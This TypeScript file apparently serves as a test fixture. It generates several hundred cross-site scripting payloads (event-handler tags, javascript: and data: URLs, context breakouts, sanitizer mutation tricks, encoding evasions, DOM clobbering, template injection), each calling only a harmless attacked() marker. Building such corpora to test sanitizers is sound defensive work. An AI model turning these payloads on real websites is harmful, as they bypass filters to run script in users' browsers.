// Texts that try to run a script where they are shown. Each calls `attacked('<its number>')`.
type Make = (call: string) => string

const handlers: [tag: string, handler: string][] = [
  ['img src=x:', 'onerror'],
  ['img src=/favicon.ico', 'onload'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe src=about:blank', 'onload'],
  ['video src=x:', 'onerror'],
  ['audio src=x:', 'onerror'],
  ['video><source src=x:', 'onerror'],
  ['object data=x:', 'onerror'],
  ['embed src=x:', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=# autofocus tabindex=1', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['marquee loop=1 width=0', 'onfinish'],
  ['style', 'onload'],
  ['link rel=stylesheet href=/favicon.ico', 'onload'],
  ['link rel=stylesheet href=x:', 'onerror'],
  ['script src=x:', 'onerror'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x to=y', 'onbegin'],
  ['svg><image href=x:', 'onerror'],
  ['svg><a><rect width=99 height=99', 'onfocusin'],
  ['math><mtext><img src=x:', 'onerror'],
  ['table background=x:', 'onfocus'],
  ['div style=animation-name:fade;animation-duration:1s', 'onanimationstart'],
  ['p contenteditable autofocus', 'onfocus'],
  ['p popover id=pop', 'onbeforetoggle'],
  ['img srcset=x: sizes=1px', 'onerror'],
  ['picture><source srcset=x:><img src=x:', 'onerror'],
  ['form><input type=image src=x:', 'onerror'],
  ['dialog open', 'onclose'],
]

const spellings: Make[] = [
  (call) => `="${call}"`,
  (call) => `=${call.replaceAll("'", '&#39;')}`,
  (call) => ` = '${call.replaceAll("'", '&#x27')}'`,
  (call) => `\n=\n"${[...call].map((sign) => `&#${sign.charCodeAt(0)};`).join('')}"`,
]

const eventHandlers: Make[] = handlers.flatMap(([tag, handler], n) => [
  (call) => `<${tag} ${handler}${spellings[n % spellings.length]?.(call)}>`,
  (call) => `<${tag.toUpperCase()}/${handler.toUpperCase()}="${call}"/x=`,
  (call) => `"><${tag} ${handler}="${call}">`,
  (call) => `' ${handler}="${call}" autofocus tabindex=0 x='`,
])

const schemes: Make[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => ` \u0001javascript:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `java\nscript:${call}`,
  (call) => `java&Tab;script&colon;${call}`,
  (call) => `&#106;avascript:${call}`,
  (call) => `&#x6A&#x61vascript&#58;${call}`,
  (call) => `javascript://%0a${call}`,
  (call) => `javascript:/*--></title></style></textarea></script>*/${call}`,
  (call) => `vbscript:${call}`,
  (call) => `data:text/html,<script>parent.${call}</script>`,
  (call) => `data:text/html;base64,${btoa(`<script>parent.${call}</script>`)}`,
  (call) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload="parent.${call}"/>`,
  (call) => `\u00a0javascript:${call}`,
  (call) => `feed:javascript:${call}`,
]

const sinks: ((address: string) => string)[] = [
  (address) => `<a href="${address}">link</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<form action="${address}"><button autofocus>send</button></form>`,
  (address) => `<button formaction="${address}" form=x>send</button>`,
  (address) => `<svg><a xlink:href="${address}"><text>link</text></a></svg>`,
  (address) => `<math><mi href="${address}">link</mi></math>`,
  (address) => `<img src="${address}" alt="">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<base href="${address}">`,
  (address) => `<svg><use href="${address}"/></svg>`,
  (address) => `<svg><a><animate attributeName=href values="${address}"/><text>link</text></a></svg>`,
  (address) => `<area href="${address}" shape=default>`,
  (address) => `<link rel=import href="${address}">`,
  (address) => `[link](${address})`,
]

const addresses: Make[] = schemes.flatMap((scheme, n) =>
  sinks
    .filter((_, m) => m < 2 || (n + m) % 3 === 0)
    .map((sink) => (call: string) => sink(scheme(call).replaceAll('"', '&quot;'))),
)

const breakouts: Make[] = [
  'title',
  'textarea',
  'style',
  'script',
  'xmp',
  'noscript',
  'template',
  'iframe',
  'noembed',
  'noframes',
  'option',
  'select',
  'svg',
  'math',
  'button',
  'a',
  'p',
  'plaintext',
].flatMap((tag): Make[] => [
  (call) => `</${tag}><script>${call}</script>`,
  (call) => `<${tag}><img title="</${tag}><img src=x: onerror=${call.replaceAll("'", '&#39;')}>">`,
])

const wholeScripts: Make[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<SCRIPT\n>${call}</SCRIPT\t>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<<script>${call}//<</script>`,
  (call) => `<script/x>${call}</script/x>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href="data:text/javascript,${call}"/></svg>`,
  (call) => `<math><script>${call}</script></math>`,
  (call) => `--><script>${call}</script><!--`,
  (call) => `]]><script>${call}</script>`,
  (call) => `<!--><script>${call}</script>-->`,
  (call) => `<?xml?><script>${call}</script>`,
  (call) => `"';</script><script>${call}</script>`,
  (call) => `\u2028${call}//\u2029`,
  (call) => `';${call};'`,
  (call) => `";${call};"`,
  (call) => `\`;${call};\``,
  (call) => `\${${call}}`,
  (call) => `{{constructor.constructor("${call}")()}}`,
  (call) => `</script\u000b><script>${call}</script>`,
]

const inAttribute = (call: string) => call.replaceAll("'", '&#39;')
const mutations: Make[] = [
  (call) => `<noscript><p title="</noscript><img src=x: onerror=${inAttribute(call)}>"></noscript>`,
  (call) => `<svg></p><style><a id="</style><img src=x: onerror=${inAttribute(call)}>"></svg>`,
  (call) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${call}&gt;">`,
  (call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${inAttribute(call)}>`,
  (call) =>
    `<svg><desc><noscript></desc></svg><img title="</noscript><img src=x: onerror=${inAttribute(call)}>">`,
  (call) =>
    `<svg><foreignObject><math><mi><table><mi><style><img title="</style><img src=x: onerror=${inAttribute(call)}>">`,
  (call) =>
    `<svg><title><style><img title="</style></title></svg><img src=x: onerror=${inAttribute(call)}>">`,
  (call) =>
    `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x: onerror=${inAttribute(call)}>">`,
  (call) => `<template><style></template><img src=x: onerror=${inAttribute(call)}></style>`,
  (call) => `<select><template><style><!--</style><a rel="--><img src=x: onerror=${inAttribute(call)}>">`,
  (call) => `<xmp><img title="</xmp><img src=x: onerror=${inAttribute(call)}>"></xmp>`,
  (call) => `<textarea><img title="</textarea><img src=x: onerror=${inAttribute(call)}>">`,
  (call) => `<p><iframe><p title="</iframe><img src=x: onerror=${inAttribute(call)}>"></p>`,
  (call) => `<a title="&lt;/a>&lt;img src=x: onerror=${call}>">text</a>`,
  (call) => `&lt;img src=x: onerror=&quot;${call}&quot;&gt;`,
  (call) => `&amp;lt;script&amp;gt;${call}&amp;lt;/script&amp;gt;`,
  (call) => `\\u003cimg src=x: onerror=${call}\\u003e`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `<img alt="\`\`onerror=${call}" src=x:>`,
  (call) =>
    `<code><pre><code class='language-html"><img src=x: onerror=${inAttribute(call)}>'>x</code></pre></code>`,
]

const others: Make[] = [
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe srcdoc="&lt;img src=x: onerror=parent.${call}&gt;"></iframe>`,
  (call) => `<style>@import "javascript:${call}";*{background:url("javascript:${call}")}</style>`,
  (call) => `<p style="background:url(javascript:${call});behavior:url(x);-moz-binding:url(x)">text</p>`,
  (call) => `<p style="width:expression(${call})">text</p>`,
  (call) => `<p style="x:&quot;</style><script>${call}</script>">text</p>`,
  (call) => `<meta charset=utf-7>+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  (call) => `<a id=location href="javascript:${call}"></a><a id=location name=href></a>`,
  (call) =>
    `<form id=__proto__ name=attributes><input name=parentNode><input name=innerHTML value="${inAttribute(call)}"></form>`,
  (call) => `<img name=getElementById><img id=cookie name=body onerror="${call}" src=x:>`,
  (call) =>
    `<p data-wp-bind--onclick="${call}" data-island="${call}" data-props='{"html":"<img src=x: onerror=${inAttribute(call)}>"}'>text</p>`,
  (call) => `<p is="x-${call}" slot=x xmlns:ev=x ev:event=load>text</p>`,
  (call) => `<isindex type=image src=x: onerror="${call}">`,
  (call) => `<keygen autofocus onfocus="${call}"><xss onfocus="${call}" id=x tabindex=1 autofocus>`,
  (call) => `<input type=hidden popover=x onbeforetoggle="${call}"><button popovertarget=x>open</button>`,
  (call) => `<object type="text/html" data="/x"><param name=src value="javascript:${call}"></object>`,
  (call) =>
    `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${call}"/></foreignObject></svg>`,
  (call) =>
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${call}</handler></svg>`,
  (call) => `<portal src="javascript:${call}"></portal><fencedframe src="javascript:${call}"></fencedframe>`,
  (call) => `javascript:${call}`,
]

const makers = [...eventHandlers, ...addresses, ...breakouts, ...wholeScripts, ...mutations, ...others]

/** Several hundred texts; the one at index 7 would call `attacked('7')` if it ran. */
export const attacks: readonly string[] = makers.map((make, index) => make(`attacked('${index}')`))
